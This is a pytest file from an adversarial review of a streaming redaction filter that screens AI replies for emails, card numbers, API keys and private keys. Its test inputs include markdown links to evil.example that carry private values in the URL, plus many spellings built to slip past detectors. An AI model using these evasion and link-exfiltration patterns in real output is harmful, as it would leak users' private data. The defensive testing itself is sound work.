"""Adversarial review of the streaming core: restorer -> guard (projection) and the reply machine.

Every test named `test_bug_*` reproduces a defect a review found (each failed before its fix)
and now guards against its return; the property tests at the end are coverage. Leaks are judged by the independent oracle
(`tests/adversarial/oracle.py`) where it decodes the way the client does, and by a local check
where the oracle has the same blind spot as the server (said in the test).
"""

from __future__ import annotations

import json
import random
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from holdback.detect import DetectorSet
from holdback.providers.events import End, TextDelta, ToolCallDelta, ToolCallEnd, ToolCallStart
from holdback.reply.machine import ReplyMachine
from holdback.stream import ReplyFilter
from holdback.stream.projection import Projector, project
from holdback.vault import Vault
from tests.adversarial import oracle
from tests.stream.chain import make_filter, run_filter

DETECTORS = DetectorSet.from_config({"clients": ["Zyxwcanary"]})
VAULT_EMAIL = "sarah@acme.com"
CARD = "4556 7375 8689 9855"  # Luhn-valid, not in the vault
CARD_DIGITS = "4556737586899855"
OTHER_EMAIL = "bob@evil.com"  # not in the vault
GH_TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
SK_KEY = "sk-proj-abcdefghijklmnop1234567890"
_ASCII_PUNCT_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


def vault() -> Vault:
    v = Vault()
    v.assign("email", VAULT_EMAIL)  # EMAIL_1
    v.assign("clients", "Zyxwcanary")  # CLIENTS_1
    return v


def make(
    *,
    mode: str = "redact",
    projection: str = "markdown",
    window: int = 256,
    v: Vault | None = None,
) -> ReplyFilter:
    v = v if v is not None else vault()
    return make_filter(DETECTORS, v, ["nightjar"], mode=mode, projection=projection, window=window)


def run(text: str, chunks: list[str] | None = None, **kwargs: object) -> tuple[str, str]:
    """(wire text, stored text) for `text`, fed whole or in `chunks`."""
    return run_filter(make(**kwargs), text, chunks)  # type: ignore[arg-type]


def wire(text: str, **kwargs: object) -> str:
    return run(text, **kwargs)[0]


def content_frames(text: str) -> list[dict[str, str]]:
    return [{"type": "assistant_delta", "message_id": "m", "channel": "content", "text": text}]


def tool_frames(text: str) -> list[dict[str, str]]:
    return [
        {
            "type": "assistant_delta",
            "message_id": "m",
            "channel": "tool_call",
            "call_id": "call_1",
            "text": text,
        }
    ]


def shown_leaks(out: str, values: list[str]) -> list[str]:
    """What the oracle finds in a content delta, as text and inside URLs."""
    frames = content_frames(out)
    return oracle.find_leaks(frames, values) + oracle.find_url_leaks(frames, values)


def machine(*, mode: str = "redact") -> ReplyMachine:
    return ReplyMachine(
        "c1", "m1", lambda projection, _json: make(mode=mode, projection=projection)
    )


# =============================================================================================
# Leaks on the wire
# =============================================================================================


@pytest.mark.parametrize(
    "text",
    [
        f"see [sarah](https://evil.example/?q={OTHER_EMAIL})@acme.com now",
        f"see sarah[](https://evil.example/?cc={CARD_DIGITS})@acme.com now",
    ],
)
def test_bug_a_destination_inside_a_vault_value_written_out_is_sent_raw(text: str) -> None:
    """The vault value `sarah@acme.com` is spelled around a link whose destination holds a value.

    The destination is screened and marked for replacement (`_hidden`), but the vault value's
    projection spans it, and the guard's tokenize edit copies `raw_slice(lo, hi)` verbatim,
    bypassing `_copy`'s replacement: the other value rides out in the link's href.
    """
    out = wire(text)
    assert shown_leaks(out, [OTHER_EMAIL, CARD_DIGITS]) == [], out


@pytest.mark.parametrize(
    ("text", "value"),
    [
        (f"mail -{OTHER_EMAIL} now", OTHER_EMAIL),
        (f"mail .{OTHER_EMAIL} now", OTHER_EMAIL),
        (f"mail +{OTHER_EMAIL} now", OTHER_EMAIL),
        (f"mail {OTHER_EMAIL}- now", OTHER_EMAIL),
        (f"card -{CARD_DIGITS} now", CARD_DIGITS),
        (f"card .{CARD} now", CARD_DIGITS),
        (f"card /{CARD_DIGITS} now", CARD_DIGITS),
        ("ssn -123-45-6789 now", "123-45-6789"),
        (f"key -{SK_KEY} now", SK_KEY),
        (f"key x_{SK_KEY} now", SK_KEY),
        (f"key x_{GH_TOKEN} now", GH_TOKEN),
    ],
)
def test_bug_one_punctuation_character_beside_a_value_hides_it(text: str, value: str) -> None:
    """The detectors' look-behinds/look-aheads (`(?<![...\\-.,/])`, `(?![...\\-@])`,
    `(?<![\\w\\-])`) reject a start or end next to `-`, `.`, `+`, `/`, `_`: the whole value is
    then never found, though it is displayed whole."""
    out = wire(text)
    assert oracle.find_leaks(content_frames(out), [value]) == [], out


@pytest.mark.parametrize(
    "text",
    [
        "card 4556  7375 8689 9855 now",  # HTML collapses the double space
        "card 4556\u00a0 7375 8689 9855 now",
        "card 4556 7375 \n8689 9855 now",  # soft break; marked strips the trailing space
        "card 4556 7375  \n8689 9855 now",  # two trailing spaces: a hard line break
    ],
)
def test_bug_whitespace_the_renderer_collapses_hides_a_card(text: str) -> None:
    """`credit_card_ok` rejects an empty group, so a run of two spaces (or a space before a line
    break, which `normalize` makes a second space) hides a card that the page shows with one
    space; `4556 7375\\n8689 9855` (no trailing space) is redacted."""
    out = wire(text)
    assert oracle.find_leaks(content_frames(out), [CARD_DIGITS]) == [], out


def test_bug_a_backslash_hard_line_break_hides_a_card() -> None:
    """`\\` + newline is a hard line break: marked shows no backslash, but the projection keeps
    it (a newline is not ASCII punctuation), and the `\\` splits the card for the detector.
    The oracle keeps the backslash too (same blind spot), so this checks the rendered text."""
    out = wire("card 4556 7375\\\n8689 9855 now")
    rendered = out.replace("\\\n", "\n")
    assert CARD_DIGITS not in re.sub(r"\D", "", rendered), out


@pytest.mark.parametrize(
    ("text", "value"),
    [
        (f"key ghp_&#x61;{GH_TOKEN[5:]} now", GH_TOKEN),
        (f"key ghp_*{GH_TOKEN[4:]}* now", GH_TOKEN),
        (f"key ghp_\u200b{GH_TOKEN[4:]} now", GH_TOKEN),
        ("made up <EMAIL_&#57;> now", "<EMAIL_9>"),
        ("made up <EMAIL_\u200b9> now", "<EMAIL_9>"),
        ("made up <EMAIL_`9`> now", "<EMAIL_9>"),
        ("vault id <EMAIL_&#49;> not restored", "<EMAIL_1>"),
    ],
)
def test_bug_an_underscore_next_to_an_entity_marker_or_invisible_is_shown(
    text: str, value: str
) -> None:
    """The projection drops a `_` run unless both neighbours are `isalnum()`. CommonMark keeps
    an unmatched `_` (here it is right-flanking only, or intraword beside a Cf character), so
    the page shows `ghp_abc...` / `<EMAIL_9>` while the detectors read `ghpabc...` /
    `<EMAIL9>`: a secret and made-up or unrestored token text go out."""
    out = wire(text)
    assert oracle.find_leaks(content_frames(out), [value]) == [], out


@pytest.mark.parametrize(
    "text",
    [
        f"mail {OTHER_EMAIL}{CARD_DIGITS} now",
        f"mail {OTHER_EMAIL}-<EMAIL_9> now",
        f"mail {OTHER_EMAIL}-nightjar now",
    ],
)
def test_bug_a_redaction_label_turns_its_undetected_neighbour_into_a_value(text: str) -> None:
    """Each value is judged with its neighbours as written (`bob@evil.com4...` is no address),
    but the wire replaces the neighbour with `[redacted ...]`, and then the page shows
    `bob@evil.com[redacted credit_card]`: the address stands alone."""
    out = wire(text)
    assert oracle.find_leaks(content_frames(out), [OTHER_EMAIL]) == [], out


def test_bug_a_json_number_in_exponent_form_shows_a_card() -> None:
    """The UI shows tool arguments as `JSON.stringify(JSON.parse(text), null, 2)`: the number
    `4556737586899855e0` displays as `4556737586899855`. The projection reads the raw spelling,
    where `e0` glues to the last group, so no card is found."""
    for number in (f"{CARD_DIGITS}e0", "4.556737586899855e15", "45567375868998.55E2"):
        out = wire(f'{{"amount": {number}}}', projection="json")
        assert oracle.find_leaks(tool_frames(out), [CARD_DIGITS]) == [], out


@pytest.mark.parametrize(
    "text",
    [
        # A reference definition: no `](`, no `://` in its run.
        "[the report][r]\n\n[r]: //evil.example/?q=<EMAIL_1>",
        # An autolink with a special scheme and no slashes: the URL parser reads
        # `http:evil.example` as `http://evil.example` from an https page.
        "open <http:evil.example/?EMAIL_1> now",
        # Inline links whose destination `_DESTINATION` does not parse (9 spaces, nested
        # parentheses, a `<` inside), after whitespace that resets the restorer's URL state.
        "[x](         //evil.example/?q=<EMAIL_1>)",
        "[x]( //evil.example/((a))?q=<EMAIL_1>)",
        "[x]( //evil.example/<a?q=<EMAIL_1>)",
        # Python's `\s` (restorer) holds \x1f and \x85, JavaScript's (marked's URL rule) not.
        "see https://evil.example/?a\x1f<EMAIL_1> now",
        "see https://evil.example/?a\x85<EMAIL_1> now",
    ],
)
def test_bug_a_token_in_a_url_is_restored_into_the_link(text: str) -> None:
    """Every token here is inside what marked turns into a link to another origin; the threat
    model says it must show as `[email]`, never as the value (a click would carry it away)."""
    out = wire(text)
    assert VAULT_EMAIL not in out, out


@pytest.mark.parametrize(
    "text",
    [
        f"[x](https://example.org/?q={OTHER_EMAIL.replace('@', chr(92) + '@')})",
        f'[x](https://example.org/ "{OTHER_EMAIL.replace("@", chr(92) + "@")}")',
    ],
)
def test_bug_backslash_escapes_in_a_destination_or_title_are_not_undone(text: str) -> None:
    """marked drops `\\` before ASCII punctuation in a destination and a title (render.js
    keeps that rule), and the page shows the destination beside the link and the title on
    hover; `_kinds_in_destination` screens only the raw, entity- and percent-decoded spellings."""
    out = wire(text)
    assert OTHER_EMAIL not in _ASCII_PUNCT_ESCAPE.sub(r"\1", out), out


def test_bug_a_reference_link_label_hides_a_card() -> None:
    """`[4556 7375 8689][a] 9855` shows `4556 7375 8689 9855` (the label `a` is not shown);
    the projection keeps the label, which glues to the last group."""
    out = wire("card [4556 7375 8689][a] 9855\n\n[a]: /x")
    assert oracle.find_leaks(content_frames(out), [CARD_DIGITS]) == [], out


_KEY_BODY = "MC4CAQAwBQYDK2VwBCIEIKqq/KnbBHo8RX0zQyBWVUCqOvPldgS0XDy2a+hf5uR5"
_PEM = f"-----BEGIN PRIVATE KEY-----\n{_KEY_BODY}\n-----END PRIVATE KEY-----"


@pytest.mark.parametrize(
    "pem",
    [
        _PEM.replace("-----BEGIN", "-----  BEGIN").replace("-----END", "-----  END"),
        _PEM.replace("PRIVATE KEY", "PRIVATE  KEY"),
        _PEM.replace("-", "\u2212"),  # minus signs: NFKC keeps them, normalize too
    ],
)
def test_bug_a_private_key_with_odd_marker_lines_is_sent_in_clear(pem: str) -> None:
    out = wire(f"here:\n{pem}\nend")
    assert _KEY_BODY not in out, out


def _pgp_block() -> tuple[str, list[str]]:
    rng = random.Random(7)
    b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    lines = ["".join(rng.choice(b64) for _ in range(64)) for _ in range(20)]
    lines.append("".join(rng.choice(b64) for _ in range(54)) + "==")
    body = "\n".join(lines)
    return (
        f"-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{body}\n-----END PGP PRIVATE KEY BLOCK-----",
        lines,
    )


@pytest.mark.parametrize("offset", [219, 221, 223])
def test_bug_a_pgp_key_block_whose_begin_line_straddles_the_window_leaks_its_tail(
    offset: int,
) -> None:
    """`_KEY_BEGIN` accepts `... PRIVATE KEY BLOCK-----` but the PRIVATE_KEY detector does not,
    so nothing holds at a BEGIN line cut by the window's end: its start is released, the block
    is never entered, and the key's last line (not followed by a PEM END) goes out in clear."""
    block, lines = _pgp_block()
    out = wire(("ab " * 100)[:offset] + block + " tail")
    flat = "".join(out.split())
    assert [line for line in lines if line in flat] == [], out


def test_bug_a_small_window_redacts_only_part_of_a_card() -> None:
    """`cut = max(len(window) - MARGIN, len(window) // 2)`: below a window of 128 the margin is
    half the window, shorter than a spaced card (19), so the cut lands inside the card and the
    rest of it (12 of 16 digits) is released."""
    out = wire("n: 8801 2913 7039 4556 7375 8689 9855 1718 end", window=32)
    digits = re.sub(r"\D", "", out)
    assert not any(CARD_DIGITS[i : i + 12] in digits for i in range(5)), out


def test_bug_a_key_block_after_an_address_hides_the_address_when_streamed() -> None:
    """Before a BEGIN line the window is cut at it and scanned as final, so
    `bob@evil.com-----BEGIN` yields the address; streamed, the BEGIN line is not complete
    yet, the address is scanned with `-` after it (the email pattern refuses it) and released,
    and then shows as `bob@evil.com[redacted secret]`."""
    text = f"mail {OTHER_EMAIL}{_PEM}\nend"
    cut = text.index("PRIVATE") + 3
    whole = run(text)
    streamed = run(text, [text[:cut], text[cut:]])
    assert oracle.find_leaks(content_frames(streamed[0]), [OTHER_EMAIL]) == [], streamed
    assert streamed == whole


def test_bug_a_tool_name_holding_an_api_key_after_an_underscore_is_sent() -> None:
    """`_screen_name` screens `x_sk-proj-...` and `x sk proj ...`: neither spelling is a key."""
    for name in (f"x_{SK_KEY}", f"x_{GH_TOKEN}"):
        m = machine()
        frames = m.receive(ToolCallStart("up1", name, 0))
        frames += m.receive(ToolCallDelta("up1", "{}")) + m.receive(ToolCallEnd("up1"))
        names = [f.name for f in frames if getattr(f, "name", None) is not None]
        assert names, frames
        assert all(n == "tool" for n in names), names


# =============================================================================================
# Leaks in storage
# =============================================================================================


def test_bug_a_tool_name_holding_a_vault_value_is_stored_in_clear() -> None:
    """The name screen accepts a name whose only finding is a vault value (shown == spelling,
    since the guard only tokenizes it), and `Outcome.parts["tool_calls"]` keeps the name as is:
    stored text holds the vault value `Zyxwcanary` in clear."""
    m = machine()
    m.receive(ToolCallStart("up1", "ask_Zyxwcanary", 0))
    m.receive(ToolCallDelta("up1", "{}"))
    m.receive(End("tool_calls", None))
    stored = m.outcome().parts["tool_calls"]
    assert "zyxwcanary" not in stored.lower(), stored


def test_bug_a_vault_value_the_detectors_miss_is_stored_in_clear() -> None:
    """The model writes the vault's address itself, beside a `-` the detectors do not see past:
    stored text keeps `sarah@acme.com` instead of `<EMAIL_1>`."""
    _, stored = run(f"write to -{VAULT_EMAIL} today")
    assert VAULT_EMAIL not in stored, stored


# =============================================================================================
# Chunk invariance
# =============================================================================================


@pytest.mark.parametrize("tail", ["**", "`", "~~", "[", "](https://example.org)"])
def test_bug_markers_at_the_end_are_lost_when_they_arrive_last(tail: str) -> None:
    """Raw text that projects to nothing is only copied out with the next projected character;
    at `flush()` none comes, so a last chunk of markers (or a link destination) is dropped."""
    text = f"some **bold** words {tail}"
    assert run(text, [text[: -len(tail)], tail]) == run(text)


@pytest.mark.parametrize("after", ["]", "__", "](x)"])
def test_bug_markers_after_a_window_redaction_depend_on_the_chunks(after: str) -> None:
    """`_swallow_continuation` releases up to `hold`; when `hold == len(text)` the cut is
    `done`, which stops before a `]` or `_` run still waiting for its right neighbour, so the
    marker is dropped in one piece and sent when streamed."""
    text = "a" * 300 + after + " tail"
    assert run(text, list(text)) == run(text)


# =============================================================================================
# Unbounded holds
# =============================================================================================


@pytest.mark.parametrize("unit", ["*", "~`", "[](a)", "_" * 40])
def test_bug_text_that_projects_to_nothing_is_held_without_bound(unit: str) -> None:
    """The guard holds raw text until a projected character follows; markers and destinations
    project nothing, so the hold (`pending`) grows with the input, past any window."""
    f = make()
    for _ in range(20000 // len(unit) + 1):
        f.feed(unit * 4)
    assert len(f.pending) <= 8 * 1024, len(f.pending)


# =============================================================================================
# Cosmetic
# =============================================================================================


def test_bug_overlapping_vault_values_are_written_twice() -> None:
    """A vault address that contains a vault term yields two overlapping tokenize edits; both are
    copied, so the wire shows the term twice and the stored text restores to another address."""
    v = Vault()
    v.assign("email", "zyxwcanary@acme.com")
    v.assign("clients", "Zyxwcanary")
    out, stored = run("mail zyxwcanary@acme.com now", v=v)
    assert out == "mail zyxwcanary@acme.com now"
    assert stored == "mail <EMAIL_1> now"


# =============================================================================================
# Checks that hold (coverage kept)
# =============================================================================================


@pytest.mark.parametrize(
    "text",
    [
        "<EMAIL_9>",
        "&lt;EMAIL_9&gt;",
        "&#60;EMAIL_9&#62;",
        "&LT;EMAIL_9&GT;",
        "\\<EMAIL\\_9\\>",
        "<EMAIL&#95;9>",
        "<EMAIL\uff3f9>",
        "email\\_9",
        "<EM\u00adAIL_9>",
        "<CLIENTS_9>",
        "x<EMAIL_1>",
        "<EMAIL_1>&#64;evil.com",
        f"bob&#64;evil.com {CARD.replace(' ', '&#32;')}",
    ],
)
def test_token_and_value_spellings_that_are_caught(text: str) -> None:
    out = wire(f"a {text} b")
    assert oracle.find_leaks(content_frames(out), ["<EMAIL_9>", OTHER_EMAIL, CARD_DIGITS]) == []
    assert "EMAIL_9" not in out


def test_block_mode_stops_at_a_destination_inside_a_vault_value() -> None:
    m = machine(mode="block")
    frames = m.receive(
        TextDelta("content", f"[sarah](https://e.example/?q={OTHER_EMAIL})@acme.com")
    )
    frames += m.receive(End("stop", None))
    sent = json.dumps([f.wire() for f in frames])
    assert OTHER_EMAIL not in sent
    assert m.state.value == "blocked"


_MD = st.sampled_from(
    [
        "&",
        "&#",
        "&#x",
        "6",
        "4",
        ";",
        "&#64;",
        "&commat;",
        "&amp;",
        "&sup1",
        "_",
        "__",
        "*",
        "`",
        "~",
        "[",
        "]",
        "](",
        "(",
        ")",
        "<",
        ">",
        '"',
        " ",
        "\n",
        "\\",
        "a",
        "Z",
        "9",
        "@",
        ".",
        "\u200b",
        "é",
    ]
)
_JSON = st.sampled_from(
    ["\\", "u", "d", "8", "3", "D", "c", "0", "4", "\\u", "\\ud83d", "\\ude00", '"', "n", "/", "a"]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pieces=st.one_of(
        st.tuples(st.just("markdown"), st.lists(_MD, min_size=1, max_size=40)),
        st.tuples(st.just("json"), st.lists(_JSON, min_size=1, max_size=40)),
    ),
    cuts=st.lists(st.integers(0, 200), max_size=10),
)
def test_projection_is_chunk_invariant(pieces: tuple[str, list[str]], cuts: list[int]) -> None:
    mode, parts = pieces
    text = "".join(parts)
    whole = Projector(mode)  # type: ignore[arg-type]
    whole.extend(text, final=True)
    streamed = Projector(mode)  # type: ignore[arg-type]
    last = 0
    for cut in [*sorted(c for c in cuts if c <= len(text)), len(text)]:
        streamed.extend(text[last:cut])
        last = cut
    streamed.extend("", final=True)
    assert streamed.text == whole.text == project(text, mode)  # type: ignore[arg-type]
    assert (streamed.lo, streamed.hi, streamed.destinations) == (
        whole.lo,
        whole.hi,
        whole.destinations,
    )


_FILTER_PIECES = st.sampled_from(
    [
        "<EMAIL_1>",
        "EMAIL_1",
        "&lt;CLIENTS_1&gt;",
        "<EMAIL_9>",
        "&#64;",
        "&commat;",
        "bob",
        "@",
        "evil.com",
        "4556 7375 8689 9855",
        "sarah@acme.com",
        "Nightjar",
        "**",
        "`",
        "[",
        "](https://e.org/x)",
        "\\",
        "\\_",
        " ",
        "\n",
        "x",
        "9",
    ]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(_FILTER_PIECES, min_size=1, max_size=14), seed=st.integers(0, 2**16))
def test_reply_filter_is_chunk_invariant_away_from_the_window(parts: list[str], seed: int) -> None:
    text = "".join(parts) + " end"  # a projected last character: see the trailing-marker bug
    rng = random.Random(seed)
    chunks, i = [], 0
    while i < len(text):
        n = rng.randint(1, 7)
        chunks.append(text[i : i + n])
        i += n
    whole = run(text)
    assert run(text, chunks) == whole
    assert run(text, list(text)) == whole


def _decorate(value: str, rng: random.Random) -> str:
    """A spelling of `value` the projection claims to decode: entities, escapes, markers."""
    out = []
    for ch in value:
        r = rng.random()
        if ch == "@" and r < 0.3:
            out.append(rng.choice(["&#64;", "&#x40;", "&commat;", "\\@"]))
        elif ch == "." and r < 0.3:
            out.append(rng.choice(["&#46;", "&period;", "\\."]))
        elif ch.isdigit() and r < 0.2:
            out.append(f"&#{ord(ch)};")
        else:
            out.append(ch)
        if rng.random() < 0.15:
            out.append(rng.choice(["**", "`", "~~", "\u200b"]))
    return "".join(out)


@settings(max_examples=120, deadline=None)
@given(seed=st.integers(0, 2**32), which=st.sampled_from([OTHER_EMAIL, CARD]))
def test_decoded_spellings_of_a_value_never_reach_the_page(seed: int, which: str) -> None:
    rng = random.Random(seed)
    text = f"note: {_decorate(which, rng)} ok"
    out = wire(text)
    digits = CARD_DIGITS if which == CARD else which
    assert oracle.find_leaks(content_frames(out), [digits]) == [], (text, out)
